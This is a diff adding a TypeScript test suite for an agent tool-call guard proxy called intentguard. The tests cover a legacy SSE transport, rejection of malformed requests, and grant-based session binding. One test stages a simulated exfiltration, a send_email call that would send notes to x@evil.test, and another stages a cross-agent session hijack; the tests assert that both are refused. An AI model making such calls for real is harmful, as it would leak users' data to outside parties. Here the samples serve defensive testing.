@@ -1,0 +1,99 @@
+import assert from 'node:assert/strict';
+import { mkdtempSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { describe, it } from 'node:test';
+import { Client } from '@modelcontextprotocol/sdk/client/index.js';
+import { SSEClientTransport } from '@modelcontextprotocol/sdk/client/sse.js';
+import type { McpError } from '@modelcontextprotocol/sdk/types.js';
+import { RPC_CODES } from '../src/index.js';
+import { mintGrant } from '../src/identity/grant.js';
+import { generateKeys } from '../src/identity/keys.js';
+import { startHttpProxy } from '../src/proxy/http.js';
+import { createRuntime, type RuntimeOptions } from '../src/proxy/runtime.js';
+import { sseUpstream } from './helpers/http-upstream.js';
+import { waitFor } from './helpers/wait.js';
+
+const dir = mkdtempSync(join(tmpdir(), 'ig-sse-'));
+writeFileSync(join(dir, 'intent.yaml'), 'purpose: summarise my notes\ntools: [echo, read_notes, slow]\n');
+
+async function stack(extra: Partial<RuntimeOptions> = {}) {
+  const upstream = await sseUpstream();
+  const runtime = await createRuntime({ mode: 'enforce', db: join(dir, `${Math.random()}.db`), pack: true, rules: [], intentFile: join(dir, 'intent.yaml'), log: () => undefined, ...extra });
+  const proxy = await startHttpProxy({ upstream: upstream.url, runtime, resource: 'https://intentguard.test/sse' });
+  return { upstream, runtime, proxy, async close() { await proxy.close(); await runtime.close(); await upstream.close(); } };
+}
+
+const connectClient = async (url: string, token?: string) => {
+  const client = new Client({ name: 'sse-agent', version: '1' });
+  const headers = token ? { authorization: `Bearer ${token}` } : undefined;
+  await client.connect(new SSEClientTransport(new URL(url), headers ? { requestInit: { headers }, eventSourceInit: { fetch: (u, init) => fetch(u, { ...init, headers: { ...(init?.headers as Record<string, string>), ...headers } }) } } : undefined));
+  return client;
+};
+
+describe('intentguard http in front of a legacy HTTP+SSE server', () => {
+  it('a real SDK SSE client reaches a real SDK SSE server; a drifting call is refused on the stream and never reaches the server', async () => {
+    const s = await stack();
+    assert.match(s.proxy.url, /\/sse$/, 'a legacy upstream is served at /sse');
+    const client = await connectClient(s.proxy.url);
+    assert.deepEqual((await client.listTools()).tools.map((t) => t.name).sort(), ['echo', 'read_notes', 'send_email', 'slow']);
+    assert.deepEqual((await client.callTool({ name: 'echo', arguments: { text: 'over sse' } })).content, [{ type: 'text', text: 'over sse' }]);
+    await assert.rejects(client.callTool({ name: 'send_email', arguments: { to: 'x@evil.test', body: 'notes' } }), (e: unknown) => {
+      assert.equal((e as McpError).code, RPC_CODES.DENIED);
+      assert.match((e as McpError).message, /intentguard/);
+      return true;
+    });
+    assert.ok(!s.upstream.seen.some((r) => r.body.includes('send_email')), 'the denied call never reached the server');
+    // The client POSTs to intentguard's endpoint, which names intentguard's own session id, not upstream's.
+    const [session] = s.runtime.monitor.sessions();
+    assert.equal(session!.transport, 'sse');
+    assert.ok(!s.upstream.seen.some((r) => r.url.includes(session!.transportSessionId!)), 'upstream never sees intentguard\'s session id');
+    await client.close();
+    await waitFor(() => s.runtime.monitor.sessions().length === 0, 'the session to end when the client closes its stream');
+    await s.runtime.recorder!.flush();
+    const row = s.runtime.store!.db.prepare('SELECT transport, calls, outcome, status FROM sessions').get() as Record<string, unknown>;
+    assert.equal(row.transport, 'sse');
+    assert.equal(row.calls, 2);
+    assert.equal(row.outcome, 'reauthorize', 'held for approval; with no approver, refused');
+    await s.close();
+  });
+
+  it('bad POSTs get clear errors and nothing is forwarded: unknown session 404, wrong type 415, garbage 400', async () => {
+    const s = await stack();
+    const base = s.proxy.url.replace(/\/sse$/, '');
+    const post = (path: string, body: string, type = 'application/json') => fetch(`${base}${path}`, { method: 'POST', headers: { 'content-type': type }, body });
+    const unknown = await post('/messages?sessionId=nope', JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'ping' }));
+    assert.equal(unknown.status, 404);
+    assert.equal(((await unknown.json()) as { error: { data: { code: string } } }).error.data.code, 'ERR_SESSION_CLOSED');
+    assert.equal((await post('/messages?sessionId=x', '{}', 'text/plain')).status, 415);
+    const garbage = await post('/messages?sessionId=x', '{"jsonrpc": ');
+    assert.equal(garbage.status, 400);
+    assert.equal(((await garbage.json()) as { error: { data: { code: string } } }).error.data.code, 'ERR_JSONRPC_INVALID');
+    assert.equal((await fetch(`${base}/messages`, { method: 'GET' })).status, 405);
+    assert.equal(s.upstream.seen.filter((r) => r.method === 'POST').length, 0, 'nothing reached the server');
+    await s.close();
+  });
+
+  it('with grants: the stream needs a valid grant, and a session\'s messages must come from the same agent', async () => {
+    const keys = await generateKeys();
+    writeFileSync(join(dir, 'jwks.json'), JSON.stringify(keys.publicJwks));
+    const s = await stack({ auth: { jwks: join(dir, 'jwks.json'), issuers: ['https://idp.test'], audience: 'https://intentguard.test/sse' } });
+    const denied = await fetch(s.proxy.url, { headers: { accept: 'text/event-stream' } });
+    assert.equal(denied.status, 401);
+    assert.match(denied.headers.get('www-authenticate')!, /^Bearer realm="intentguard"/);
+    const mint = (sub: string) => mintGrant({ privateJwk: keys.privateJwk, iss: 'https://idp.test', aud: 'https://intentguard.test/sse', sub, ttl: '5m', intent: { purpose: 'echo things', tools: ['echo'] } });
+    const client = await connectClient(s.proxy.url, await mint('agent:a'));
+    assert.deepEqual((await client.callTool({ name: 'echo', arguments: { text: 'granted' } })).content, [{ type: 'text', text: 'granted' }]);
+    assert.ok(s.upstream.seen.every((r) => r.headers.authorization === undefined), 'the client token is never forwarded');
+    const [session] = s.runtime.monitor.sessions();
+    const base = s.proxy.url.replace(/\/sse$/, '');
+    const hijack = await fetch(`${base}/messages?sessionId=${session!.transportSessionId}`, {
+      method: 'POST', headers: { 'content-type': 'application/json', authorization: `Bearer ${await mint('agent:b')}` },
+      body: JSON.stringify({ jsonrpc: '2.0', id: 7, method: 'tools/call', params: { name: 'echo', arguments: { text: 'hijack' } } }),
+    });
+    assert.equal(hijack.status, 403);
+    assert.ok(!s.upstream.seen.some((r) => r.body.includes('hijack')), 'another agent cannot post into the session');
+    await client.close();
+    await s.close();
+  });
+});
